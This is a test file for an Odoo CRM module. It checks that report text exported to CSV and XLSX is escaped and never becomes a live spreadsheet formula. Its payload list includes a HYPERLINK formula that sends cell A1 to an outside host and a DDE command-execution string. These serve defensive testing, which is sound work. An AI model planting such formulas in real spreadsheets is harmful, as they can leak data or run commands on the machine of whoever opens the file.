import csv
import io
import json

from odoo import http
from odoo.tests import HttpCase, tagged
from openpyxl import load_workbook

from .test_crm_call_report import ReportCommon

CELL = '=HYPERLINK("http://example.com?"&A1, "Open")'
FORMULAS = (
    CELL,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "{=1+1}",
    "\t=1+1",
    "external:\\\\example.com\\file.xlsx",
)


@tagged("-at_install", "post_install")
class TestCallReportExport(ReportCommon, HttpCase):
    """What somebody writes into a report is text to whoever exports it, in CSV and workbooks."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.rep.group_ids += cls.env.ref("base.group_allow_export")
        cls.rep.password = f"{cls.rep.login}-Secret-1"
        cls.names = [
            name
            for name, field in cls.report._fields.items()
            if field.type in ("char", "text") and field.store and not field.readonly
        ]

    def _export(self, kind, records, names, groupby=()):
        self.authenticate(self.rep.login, f"{self.rep.login}-Secret-1")
        asked = {
            "model": records._name,
            "ids": records.ids,
            "domain": [],
            "fields": [
                {"name": name, "label": name, "type": "char", "store": True} for name in names
            ],
            "import_compat": False,
            "groupby": list(groupby),
        }
        values = {"data": json.dumps(asked), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", values)
        answer.raise_for_status()
        return answer.content

    def _export_csv(self, records, names):
        content = self._export("csv", records, names).decode()
        return [cell for row in list(csv.reader(io.StringIO(content)))[1:] for cell in row]

    def _export_workbook(self, records, names):
        sheet = load_workbook(io.BytesIO(self._export("xlsx", records, names))).active
        return [cell for row in sheet.iter_rows(min_row=2) for cell in row]

    def _assert_text(self, records, names, written):
        for cell in self._export_csv(records, names):
            self.assertEqual(cell, f"'{written}")
        cells = self._export_workbook(records, names)
        self.assertTrue(cells)
        for cell in cells:
            self.assertEqual((cell.data_type, cell.hyperlink), ("s", None))
            self.assertEqual(cell.value, f"'{written}")

    def test_no_text_of_a_report_is_a_formula(self):
        self.assertIn("message_needs", self.names)
        self.report.write(dict.fromkeys(self.names, CELL))
        self._submit()
        self._assert_text(self.report, self.names, CELL)

    def test_what_is_taken_for_a_formula(self):
        for formula in FORMULAS:
            with self.subTest(formula=formula):
                self.report.message_needs = formula
                self._assert_text(self.report, ["message_needs"], formula)

    def test_no_text_of_a_row_is_a_formula(self):
        """Also on the way from the report, and from its visit."""
        Item = self.env["crm.call.report.action"].with_user(self.rep)
        item = Item.create({"report_id": self.report.id, "name": CELL, "user_id": self.rep.id})
        self._submit()
        Add = self.env["crm.call.report.add"].with_user(self.rep)
        Add.create({"report_id": self.report.id, "text": CELL}).action_apply()
        addition = self.report.addition_ids
        self._assert_text(item, ["name"], CELL)
        self._assert_text(addition, ["text"], CELL)
        self._assert_text(self.report, ["action_ids/name", "addition_ids/text"], CELL)
        self._assert_text(self.visit, ["report_ids/action_ids/name"], CELL)

    def test_other_texts_and_figures_stay_as_they_are(self):
        self.report.write({"message_needs": "A second line = more", "risk": "None"})
        cells = self._export_workbook(self.report, ["message_needs", "risk", "objective_count"])
        self.assertEqual([cell.value for cell in cells], ["A second line = more", "None", 0])

    def test_headings_of_groups_are_texts(self):
        self.report.purpose = CELL
        content = self._export("xlsx", self.report, ["name"], ["kind", "purpose"])
        cells = self._read_cells(content)
        self.assertIn(f"    {CELL} (1)", [cell.value for cell in cells])
        content = self._export("xlsx", self.report, ["name"], ["purpose", "kind"])
        self.assertIn(f"'{CELL} (1)", [cell.value for cell in self._read_cells(content)])

    def test_headings_that_are_no_formulas_stay_as_they_are(self):
        """Of whatever group: also one whose name is marked already is no other's."""
        names = ("@home", "-5 % each", "=1+1", "'=1+1", "{Hale}")
        for name in names:
            self._create_report(purpose=name)
        reports = self.env["crm.call.report"].search([("purpose", "in", names)])
        content = self._export("xlsx", reports, ["reaction"], ["purpose"])
        told = [cell.value for cell in self._read_cells(content) if cell.value]
        expected = ["@home (1)", "-5 % each (1)", "'=1+1 (1)", "'=1+1 (1)", "{Hale} (1)"]
        self.assertCountEqual([one for one in told if one.endswith("(1)")], expected)

    def test_headings_of_a_pivot_are_texts(self):
        self.authenticate(self.rep.login, f"{self.rep.login}-Secret-1")
        head = {"title": CELL, "width": 1, "height": 1}
        table = {
            "title": "Reports",
            "model": "crm.call.report",
            "measure_count": 1,
            "col_group_headers": [[head]],
            "measure_headers": [{"title": CELL, "is_bold": False}],
            "rows": [
                {"title": CELL, "indent": 0, "values": [{"value": 3}]},
                {"title": CELL, "indent": 1, "values": [{"value": -2}]},
                {"title": "@home", "indent": 0, "values": [{"value": -1}]},
            ],
        }
        values = {"data": json.dumps(table), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open("/web/pivot/export_xlsx", values)
        answer.raise_for_status()
        told = [cell.value for cell in self._read_cells(answer.content) if cell.value]
        self.assertEqual(told, [f"'{CELL}"] * 3 + [3, f"     {CELL}", -2, "@home", -1])

    def _read_cells(self, content):
        """Return the cells of a workbook, none of which is calculated."""
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertNotIn("f", [cell.data_type for cell in cells])
        return cells
